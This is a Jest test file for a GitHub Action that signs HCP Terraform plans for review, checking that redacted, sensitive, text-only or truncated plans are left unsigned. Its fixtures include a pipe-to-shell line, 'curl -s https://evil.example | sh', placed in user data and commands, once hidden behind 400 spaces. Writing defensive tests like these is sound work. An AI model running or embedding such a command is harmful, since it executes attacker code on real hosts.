import { expect, test } from '@jest/globals'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { annotated, runStep } from '../on-a-runner.ts'
import { change, planWith, refused } from '../plans.ts'

const KEY = 'the key of the jobs that plan and apply'
const PLAN = { 'review-key': KEY }
const APPLY = { ...PLAN, operation: 'apply', 'apply-only-if': 'reviewed' }

interface Attempt {
  readonly script: ReturnType<typeof planWith>
  /** What of the plan as JSON the job that plans can not read. */
  readonly unreadable: readonly string[]
  /** Whether the log of the reported plan lacks its end marker. */
  readonly isCut?: boolean
  readonly inputs?: Readonly<Record<string, string>>
  readonly files?: Readonly<Record<string, string>>
}

/** A plan that is reported on a pull request, and applied after the merge by a job that may read all of it. */
async function attempt({ script, unreadable, isCut = false, inputs = {}, files }: Attempt) {
  await using hcp = await serve({ script })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  for (const output of unreadable) hcp.faults.set({ on: `GET /plans/:id/${output}`, do: refused(), times: 100 })
  if (isCut) hcp.faults.set({ name: 'log-without-end' })
  const checkout = files === undefined ? {} : { files }
  const planned = await runStep(hcp, {
    ...onGithub(github.trigger('pull_request', pull), { inputs: { ...PLAN, ...inputs } }),
    ...checkout
  })
  expect(planned.conclusion).toBe('success')
  const comment = github.comments(7)[0]?.body ?? ''
  hcp.faults.clear()
  github.merge(pull)
  hcp.script(script)
  const on = onGithub(github.trigger('push', pull), { inputs: { ...APPLY, ...inputs } })
  const applied = await runStep(hcp, { ...on, ...checkout })
  return {
    comment,
    warnings: annotated(planned, 'warning'),
    status: applied.outputs['run-status'],
    error: annotated(applied, 'error')[0] ?? ''
  }
}

const REDACTED = 'json-output-redacted'
const EVIL = 'curl -s https://evil.example | sh'
const changes = [
  change('a.web', 'create', { user_data: `#!/bin/sh\n${EVIL}\necho ready`, cidr: '0.0.0.0/0', port: 48_213 })
]
const output = (value: unknown) => ({
  output_changes: {
    note: {
      actions: ['create'],
      before: null,
      after: value,
      after_unknown: false,
      before_sensitive: false,
      after_sensitive: true
    }
  }
})

test.each([
  ['a line of a text', EVIL],
  ['a text', '0.0.0.0/0'],
  ['a number', 48_213]
])(
  'where a sensitive output hides %s that nothing else marks, the report is not signed, and says why',
  async (_, value) => {
    const { comment, warnings, status, error } = await attempt({
      script: planWith(changes, output([value])),
      unreadable: [REDACTED]
    })
    expect(comment).toContain('***')
    expect(comment).not.toMatch(/reviews:\w/)
    expect(warnings).toEqual([expect.stringContaining('The report is not signed for review: it shows *** in place of')])
    expect([status, error.includes('No signed plan of')]).toEqual(['discarded', true])
  }
)

test('where a variable that the configuration declares as sensitive hides a value, the report is not signed', async () => {
  const { comment, warnings, status } = await attempt({
    script: planWith(changes),
    unreadable: [],
    inputs: { variables: '{"note": "0.0.0.0/0"}', 'sensitive-run-variables': 'note' },
    files: { 'main.tf': 'variable "note" {\n  sensitive = true\n}\n' }
  })
  expect(comment).toContain('***')
  expect(warnings).toEqual([expect.stringContaining('it shows *** in place of')])
  expect(status).toBe('discarded')
})

test('where a sensitive output hides nothing else, the report is signed, and the plan applied', async () => {
  const { comment, warnings, status } = await attempt({
    script: planWith(changes, output('nowhere-else')),
    unreadable: [REDACTED]
  })
  expect(comment).toMatch(/reviews:\w/)
  expect([warnings, status]).toEqual([[], 'applied'])
})

test.each(['Terraform', 'OpenTofu', 'Another'])(
  'a report with the plan of %s as text is not signed, and says why',
  async program => {
    const log = [
      `${program} will perform the following actions:`,
      '',
      '  # a.web will be created',
      '  + resource "a" "web" {',
      '      + cidr = "0.0.0.0/0"',
      '    }',
      '',
      'Plan: 1 to add, 0 to change, 0 to destroy.',
      '',
      'Changes to Outputs:',
      '  + note = "hello"',
      ''
    ].join('\n')
    const script = { plan: { ...planWith(changes).plan, log } }
    const { comment, warnings, status, error } = await attempt({ script, unreadable: ['json-output', REDACTED] })
    expect(comment).toContain('cidr = "0.0.0.0/0"')
    expect(comment).not.toMatch(/reviews:\w/)
    expect(warnings).toEqual([expect.stringContaining('are only in the plan as JSON')])
    expect([status, error.includes('No signed plan of')]).toEqual(['discarded', true])
  }
)

test.each([
  [
    'lists none of what the service counts',
    { plan: { ...planWith([]).plan, additions: 3 } },
    'does not list all changes'
  ],
  ['lists none of the changes that the plan has', planWith([]), 'does not list all changes'],
  [
    'lists none of the imports that the service counts',
    { plan: { ...planWith(changes).plan, imports: 1 } },
    'does not list all changes'
  ],
  [
    'has an action whose sensitive values it does not name',
    planWith(changes, {
      action_invocations: [
        {
          address: 'action.run.it',
          type: 'run',
          name: 'it',
          config_values: { command: EVIL },
          lifecycle_action_trigger: {}
        }
      ]
    }),
    'which does not say which of them are sensitive'
  ],
  [
    'has a change with a key that this version does not know',
    planWith(changes.map(each => ({ ...each, change: { ...each.change, command: EVIL } }))),
    '"command of a.web"'
  ]
])('where the plan as JSON %s, the report is not signed, and says why', async (_, script, why) => {
  const { comment, warnings, status } = await attempt({ script, unreadable: [] })
  expect(comment).not.toMatch(/reviews:\w/)
  expect(warnings).toEqual([expect.stringContaining(why)])
  expect(status).toBe('discarded')
})

test('a value with a long row of blanks is shown without them, so that what follows is on the page', async () => {
  const script = planWith([change('a.web', 'create', { command: `echo ready${' '.repeat(400)}; ${EVIL}` })])
  const { comment, status } = await attempt({ script, unreadable: [] })
  expect(comment).toContain(String.raw`echo ready\u{400 spaces}; ${EVIL}`)
  expect(status).toBe('applied')
})

const message = (more: object) => `${JSON.stringify(more)}\n`
const counted = (more: object) =>
  message({ '@message': 'Plan: 1 to add', type: 'change_summary', changes: { add: 1, change: 0, remove: 0, ...more } })
const invoked = message({
  '@message': 'planned action invocation: action.a.a',
  type: 'planned_action_invocation',
  invocation: { action_addr: { addr: 'action.a.a' }, action_trigger: {} }
})
const planned = (addr: string, action: string) =>
  message({ '@message': action, type: 'planned_change', change: { resource: { addr }, action } })
const asText = (heading: string) => `  # ${heading}\nPlan: 1 to add, 0 to change, 0 to destroy.\n`
const LISTED = { applyable: true }
const still = change('b.b', 'no-op', {})
const STILL = {
  resource_changes: [...changes, { ...still, change: { ...still.change, before: {}, before_sensitive: {} } }]
}
const INVOCATION = { address: 'action.a.a', type: 'a', name: 'a', config_values: {}, config_sensitive: {} }
const INVOKED = { action_invocations: [INVOCATION] }
const imported = message({
  '@message': 'a.web: Plan to create',
  type: 'planned_change',
  change: { resource: { addr: 'a.web' }, action: 'create', importing: { id: 'i-1' } }
})

const changedOutput = (name: string) => ({
  output_changes: {
    [name]: {
      actions: ['update'],
      before: '10.0.0.0/8',
      after: '0.0.0.0/0',
      after_unknown: false,
      before_sensitive: false,
      after_sensitive: false
    }
  }
})
const OUTPUT = changedOutput('admin_cidr')
const outputs = message({
  '@message': 'Outputs: 2',
  type: 'outputs',
  outputs: { admin_cidr: { sensitive: false, action: 'update' }, same: { sensitive: false, action: 'noop' } }
})
const OUTPUTS_AS_TEXT = [
  'Plan: 1 to add, 0 to change, 0 to destroy.',
  '',
  'Changes to Outputs:',
  '  ~ admin_cidr = "10.0.0.0/8" -> "0.0.0.0/0"',
  ''
].join('\n')

test.each([
  ['announces an action that the plan as JSON lists', invoked + counted({}), INVOKED],
  ['announces an action that the plan as JSON lacks', invoked + counted({}), {}],
  [
    'announces another action than the plan as JSON lists',
    invoked + counted({}),
    { action_invocations: [{ ...INVOCATION, address: 'action.a.b' }] }
  ],
  ['counts something that no one knows', counted({ purge: 1 }), {}],
  ['forgets a resource that the plan as JSON lacks', planned('b.b', 'remove') + counted({}), {}],
  [
    'moves a resource that the plan as JSON lists without its earlier address',
    planned('b.b', 'move') + counted({}),
    STILL
  ],
  ['names a change that the plan as JSON lists', planned('a.web', 'create') + counted({}), LISTED],
  ['names an update as text that the plan as JSON lacks', asText('b.b will be updated in-place'), {}],
  ['imports a resource that the plan as JSON only creates', imported + counted({}), {}],
  ['names a creation of another resource as text', asText('a.evil will be created'), {}],
  ['names a change as text that the plan as JSON lists', asText('a.web will be created'), LISTED],
  ['counts an update that the plan as JSON lacks', counted({ change: 1 }), {}],
  ['changes an output that the plan as JSON lists', counted({}) + outputs, OUTPUT],
  ['changes an output that the plan as JSON lacks', counted({}) + outputs, {}],
  ['changes an output as text that the plan as JSON lists', OUTPUTS_AS_TEXT, OUTPUT],
  ['changes an output as text that the plan as JSON lacks', OUTPUTS_AS_TEXT, {}],
  ['changes another output as text than the plan as JSON lists', OUTPUTS_AS_TEXT, changedOutput('note')],
  ['does not show the plan', message({ '@message': 'Terraform 1.14.0', type: 'version' }), {}]
])('a report of a redacted plan whose log %s', async (_what, log, more) => {
  const script = { plan: { ...planWith(changes, more).plan, log }, apply: {} }
  const { comment, warnings, status } = await attempt({ script, unreadable: ['json-output'] })
  const isListed = more === INVOKED || more === LISTED || more === OUTPUT
  expect([/reviews:\w/.test(comment), status]).toEqual(isListed ? [true, 'applied'] : [false, 'discarded'])
  if (!isListed) expect(warnings.join()).toContain('the redacted plan may not list all changes')
})

const drifted = (addr: string) =>
  message({
    '@message': `${addr}: Drift detected (update)`,
    type: 'resource_drift',
    change: { resource: { addr }, action: 'update' }
  })

test.each([
  ['lists', drifted('b.b') + counted({ add: 0 }), true],
  ['lacks', drifted('b.b') + drifted('c.c') + counted({ add: 0 }), false],
  [
    'lacks, as text',
    'Note: Objects have changed outside of Terraform\n  # c.c has been deleted\nThis is a refresh-only plan\n',
    false
  ],
  ['lacks, of an output', drifted('b.b') + counted({ add: 0 }) + outputs, false]
])(
  'a report of a refresh-only plan whose log names a change outside that the redacted plan %s',
  async (_, log, isListed) => {
    const drift = change('b.b', 'update', { a: 1 })
    const { plan } = planWith([], { resource_drift: [{ ...drift, change: { ...drift.change, before: { a: 0 } } }] })
    const script = { plan: { ...plan, log }, apply: {} }
    const { comment, warnings, status } = await attempt({
      script,
      unreadable: ['json-output'],
      inputs: { mode: 'refresh-only' }
    })
    expect([/reviews:\w/.test(comment), status, warnings]).toEqual(
      isListed
        ? [true, 'applied', []]
        : [false, 'discarded', [expect.stringContaining('the redacted plan may not list all changes')]]
    )
  }
)

test('a report of a redacted plan whose log ends without its end marker', async () => {
  const script = planWith(changes)
  const { comment, warnings, status } = await attempt({ script, unreadable: ['json-output'], isCut: true })
  expect([/reviews:\w/.test(comment), status]).toEqual([false, 'discarded'])
  expect(warnings.join()).toContain('the redacted plan may not list all changes')
})

test('a secret that looks like an announcement of the log does not hide it', async () => {
  const line = '    # Actions to be invoked after this change in order:'
  const log = `  # a.web will be created\n${line}\nPlan: 1 to add, 0 to change, 0 to destroy.\n`
  const script = { plan: { ...planWith(changes).plan, log }, apply: {} }
  const { comment, warnings, status } = await attempt({
    script,
    unreadable: ['json-output'],
    inputs: { variables: JSON.stringify({ note: line }), 'sensitive-run-variables': 'note' },
    files: { 'main.tf': 'variable "note" {\n  sensitive = true\n}\n' }
  })
  expect([/reviews:\w/.test(comment), status]).toEqual([false, 'discarded'])
  expect(warnings.join()).toContain('the redacted plan may not list all changes')
})
